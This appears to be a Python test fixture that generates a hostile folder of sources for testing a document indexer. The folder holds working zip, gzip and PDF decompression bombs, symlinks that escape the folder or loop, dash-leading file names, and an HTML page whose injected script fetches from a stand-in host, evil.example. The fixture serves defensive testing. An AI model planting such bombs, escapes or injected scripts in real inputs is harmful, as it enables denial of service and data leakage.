"""A hostile and broken sources folder, generated at test time (it holds a 50 MB file and
a million-line file, so it is never committed).

``write_corpus(folder, outside)`` fills ``folder`` with bad files (each must be skipped with
a clear reason naming it), odd-but-good files (each must be indexed, with the right text)
and a few ordinary articles, and puts the target of a symbolic link in ``outside`` (its
text must never reach the index). It returns what a test should expect of each file.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import shutil
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import SEED_000, SEED_001, SEEDS, WORDS, article_text
from tests.samples import encrypt_pdf, make_docx, make_pdf

__all__ = ["Corpus", "write_corpus", "SCRIPT_MARKS", "OUTSIDE_MARK"]

MB = 1024 * 1024
OUTSIDE_MARK = "zanzibarquokka"  # only in the file outside the sources folder
SCRIPT_MARKS = ("scriptmarkalpha", "iframemarkbeta", "onerrormarkgamma", "stylemarkdelta", "srcdocmarkepsilon")

ACCENTED = (
    "Envoy In Zürich\n\n"
    "The café’s owner said “we are naïve” — and the résumé was on the table. "
    "Officials said the talks on sanctions would resume in Geneva on Monday.\n\n"
    "A spokesman for the délégation declined to comment on the exports of coal and textiles.\n"
)
THAI = (
    "ข่าวการทูต\n\n"
    "ทูตพิเศษเดินทางไปเจนีวาเมื่อวันอาทิตย์เพื่อเจรจารอบใหม่เรื่องมาตรการคว่ำบาตร "
    "นักการทูตกล่าวว่าการประชุมครั้งนี้จะใช้เวลาสองวัน และจะหารือเรื่องการค้า พลังงาน และแรงงาน\n\n"
    "โฆษกกล่าวว่า เรายังคงเปิดกว้างต่อการเจรจา\n"
)
THAI_SENTENCE = "ทูตพิเศษเดินทางไปเจนีวาเมื่อวันอาทิตย์เพื่อเจรจารอบใหม่เรื่องมาตรการคว่ำบาตร"

HTML = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Border Talks Resume After Long Pause | The Test Gazette</title>
<meta property="og:site_name" content="The Test Gazette">
<style>.{SCRIPT_MARKS[3]} {{ color: red; }}</style>
<script>var t = "{SCRIPT_MARKS[0]}"; document.cookie = "x=" + t;</script></head>
<body onload="alert('{SCRIPT_MARKS[2]}')"><nav><a href="/">Home</a></nav>
<article><h1>Border Talks Resume After Long Pause</h1>
<p>Negotiators from both countries met at the border crossing on Tuesday, the first such meeting
in more than a year, and agreed to reopen two trade routes for grain and fertiliser.</p>
<img src="x.png" onerror="fetch('https://evil.example/?{SCRIPT_MARKS[2]}')">
<iframe src="https://evil.example/{SCRIPT_MARKS[1]}" srcdoc="<p>{SCRIPT_MARKS[4]}</p>"></iframe>
<p>Officials said the next round would take place in Geneva and would cover energy exports,
permits for seasonal workers and the exchange of prisoners.</p>
<script>document.write("<p>{SCRIPT_MARKS[0]}</p>")</script>
<p>“We are not there yet, but the door is open,” the chief negotiator told reporters.</p></article>
</body></html>"""

PDF_LINES = [
    "Sanctions Talks Resume In Geneva",
    "Diplomats met on Monday to discuss the sanctions regime and the return of workers.",
    "They agreed to meet again next week, officials said.",
]


@dataclass
class Corpus:
    """What a build over the folder must do with each file (names relative to it)."""

    bad: dict[str, tuple[str, ...]] = field(default_factory=dict)  # name → words its reason must hold
    good: dict[str, str] = field(default_factory=dict)  # name → a passage its indexed text must hold
    absent: tuple[str, ...] = ()  # strings no indexed text may hold
    unreadable_as_root: str = ""  # the chmod-000 file: bad for a normal user, readable for root
    notes: list[str] = field(default_factory=list)


def _lines_file(path: Path, n: int, width: int) -> None:
    """``n`` short lines (a word list, a log): the shape that made ftfy and the chunker slow."""
    with open(path, "w", encoding="utf-8") as f:
        for start in range(0, n, 50_000):
            f.write("".join(f"{WORDS[i % len(WORDS)]} {i:0{width}d}\n" for i in range(start, min(n, start + 50_000))))


def _big_text(path: Path, size: int) -> None:
    """Prose-like text of ``size`` bytes, written in 1 MB pieces."""
    rnd = random.Random(50)
    block = "".join(article_text(rnd.randrange(10**6), sentences=40) + "\n" for _ in range(12)).encode()
    with open(path, "wb") as f:
        written = 0
        while written < size:
            piece = block[: size - written]
            f.write(piece)
            written += len(piece)


def _zip_bomb_docx(unpacked: int) -> bytes:
    """A valid DOCX whose document.xml unpacks to ``unpacked`` bytes of empty paragraphs
    (the zip's sizes are honest; its ratio is ~1000:1)."""
    base = zipfile.ZipFile(io.BytesIO(make_docx(["Placeholder paragraph."])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in base.infolist():
            data = base.read(info.filename)
            if info.filename != "word/document.xml":
                zf.writestr(info, data)
                continue
            head, tail = data.split(b"<w:body>", 1)
            block = b"<w:p><w:r><w:t>boom</w:t></w:r></w:p>" * (MB // 38)
            with zf.open("word/document.xml", "w", force_zip64=True) as f:
                f.write(head + b"<w:body>")
                for _ in range(unpacked // len(block)):
                    f.write(block)
                f.write(tail)
    return out.getvalue()


def _gzip_bomb(unpacked: int) -> bytes:
    """Concatenated gzip members of blank lines: ~1 KB per MB, read as one stream."""
    member = gzip.compress(b"\n" * (16 * MB), compresslevel=9)
    return member * max(1, unpacked // (16 * MB))


def _pdf_bomb(unpacked: int) -> bytes:
    """A one-page PDF whose content stream inflates to ``unpacked`` bytes."""
    comp = zlib.compressobj(9)
    stream = comp.compress(b"BT /F1 11 Tf 72 760 Td (Bomb) Tj ET\n")
    spaces = b" " * MB
    for _ in range(unpacked // MB):
        stream += comp.compress(spaces)
    stream += comp.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _invalid_utf8() -> tuple[bytes, str]:
    """A UTF-8 article with a stray byte and a character cut in half; what it must read as."""
    text = ACCENTED.replace("Envoy In Zürich", "Stray Bytes In Zürich") + "\n" + article_text(31)
    raw = text.encode("utf-8")
    cut = raw.index(b"Officials")
    damaged = raw[:cut] + b"\xff" + raw[cut:]
    end = damaged.index(b"A spokesman")
    damaged = damaged[:end] + b"\xe2\x80" + damaged[end:]
    return damaged, "the talks on sanctions would resume in Geneva on Monday"


def write_corpus(folder: Path, outside: Path, big_mb: int = 50, million: int = 1_000_000) -> Corpus:
    """Fill ``folder`` (created) with the corpus; ``outside`` (created) gets the link target."""
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    c = Corpus(absent=(OUTSIDE_MARK, *SCRIPT_MARKS))

    def bad(name: str, data: bytes | None, *words: str) -> None:
        if data is not None:
            (folder / name).write_bytes(data)
        c.bad[name] = words

    def good(name: str, data: bytes, passage: str) -> None:
        (folder / name).write_bytes(data)
        c.good[name] = passage

    # -- ordinary articles ---------------------------------------------------------------------
    for seed, passage in ((SEED_000, "made a quiet trip to Moscow on Monday"),
                          (SEED_001, "warned against easing up on sanctions")):
        shutil.copyfile(SEEDS / seed, folder / seed)
        c.good[seed] = passage
    good("report.pdf", make_pdf(PDF_LINES, title="Sanctions Talks"), PDF_LINES[1])
    good("memo.docx", make_docx(["Envoy Memo On Coal Exports", "The envoy said coal exports fell by a third.",
                                 "Second paragraph of the memo."], title="Envoy Memo"),
         "The envoy said coal exports fell by a third.")
    good("feed.jsonl", (
        '{"id": "a", "title": "Feed One", "text": "The council met on Friday to discuss the embargo."}\n'
        "not json at all\n"
        '{"id": "b", "text": "Ministers from Seoul and Tokyo agreed on a hotline."}\n').encode(),
         "Ministers from Seoul and Tokyo agreed on a hotline.")

    # -- awkward names (good files) --------------------------------------------------------------
    for name, seed in (("article with spaces.txt", 41), ("Ünïcødé 新闻 статья.md", 42),
                       ("line\nbreak.txt", 43), ("-leading-dash.txt", 44), ("--help.txt", 45)):
        text = article_text(seed)
        good(name, text.encode(), text.split("\n\n")[1])

    # -- odd encodings that decode (good files, with the right text) -----------------------------
    good("utf16-no-bom.txt", ACCENTED.encode("utf-16-le"), "The café’s owner said “we are naïve” — and the résumé")
    good("cp1252.txt", ACCENTED.replace("Zürich", "Lyon").encode("cp1252"), "The café’s owner said “we are naïve”")
    import ftfy.bad_codecs  # noqa: F401  - registers sloppy-windows-1252, as a careless Windows tool decodes

    mojibake = ACCENTED.replace("Zürich", "Bern").encode("utf-8").decode("sloppy-windows-1252")
    assert "Ã©" in mojibake and "â€™" in mojibake
    good("mojibake-cp1252.txt", mojibake.encode("utf-8"), "The café’s owner said “we are naïve”")
    good("thai-cp874.txt", THAI.encode("cp874"), THAI_SENTENCE)
    byline = article_text(46)
    assert "·" in byline
    good("mojibake-cp874.txt", byline.encode("utf-8").decode("cp874", errors="replace").encode("utf-8"),
         "(c) 2019, The Test Gazette · Reporter 46")
    data, passage = _invalid_utf8()
    good("invalid-utf8.txt", data, passage)
    good("page.html", HTML.encode(), "agreed to reopen two trade routes for grain and fertiliser")
    _lines_file(folder / "many-short-lines.txt", 60_000, 5)
    c.good["many-short-lines.txt"] = "sanctions 00000\nenvoy 00001\nminister 00002"

    # -- bad files: skipped, each with one clear reason --------------------------------------------
    bad("empty.txt", b"", "is empty")
    bad("whitespace-only.md", b" \n\t\n   \r\n\n", "is empty")
    bad("random-bytes.txt", random.Random(7).randbytes(64 * 1024), "not readable text")
    bad("high-bytes.txt", bytes(range(0x80, 0x100)) * 64, "not readable text")
    bad("-bad\nname.txt", b"", "is empty")
    _big_text(folder / "big-50mb.txt", big_mb * MB)
    bad("big-50mb.txt", None, "MB of text", "limit", "max_source_mb")
    _lines_file(folder / "million-lines.txt", million, 7)
    bad("million-lines.txt", None, "MB of text", "limit", "max_source_mb")
    bad("corrupt.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage", "not a readable PDF")
    bad("truncated.pdf", make_pdf(PDF_LINES)[:300], "not a readable PDF")
    bad("encrypted.pdf", encrypt_pdf(make_pdf(PDF_LINES), "correct horse battery staple"), "encrypted PDF")
    bad("scanned.pdf", make_pdf([]), "no extractable text")
    bad("bomb.pdf", _pdf_bomb(96 * MB), "decompression bomb")
    bad("corrupt.docx", b"PK\x03\x04this is not a zip file at all", "not a readable DOCX")
    bad("zip-bomb.docx", _zip_bomb_docx(256 * MB), "zip bomb")
    bad("gzip-bomb.jsonl.gz", _gzip_bomb(1024 * MB), "expands to more than", "max_source_mb")
    bad("no-records.jsonl", b'{"title": "no text here"}\nnot json\n', "no usable records")
    bad("scripts-only.html", b"<html><head><script>alert(1)</script></head><body><script>x()</script></body></html>",
        "no article text")
    bad("notes.csv", b"a,b\n1,2\n", "unsupported type")

    # -- links and special files -------------------------------------------------------------------
    secret = outside / "private.txt"
    secret.write_text(f"Private Notes\n\nThe {OUTSIDE_MARK} file lives outside the sources folder.\n")
    (folder / "link-out.txt").symlink_to(secret)
    bad("link-out.txt", None, "outside the sources folder", "not followed")
    (folder / "loop-a.txt").symlink_to(folder / "loop-b.txt")
    (folder / "loop-b.txt").symlink_to(folder / "loop-a.txt")
    bad("loop-a.txt", None, "loops", "not followed")
    bad("loop-b.txt", None, "loops", "not followed")
    (folder / "dangling.txt").symlink_to(folder / "gone.txt")
    bad("dangling.txt", None, "does not exist", "not followed")
    os.mkfifo(folder / "pipe.txt")
    bad("pipe.txt", None, "not a regular file")

    locked = folder / "locked.txt"
    locked.write_text(article_text(47))
    locked.chmod(0)
    c.unreadable_as_root = "locked.txt"
    if os.geteuid() == 0:
        c.good["locked.txt"] = article_text(47).split("\n\n")[1]
        c.notes.append("running as root: chmod 000 does not stop reading, so locked.txt is indexed")
    else:
        c.bad["locked.txt"] = ("permission denied",)
    return c
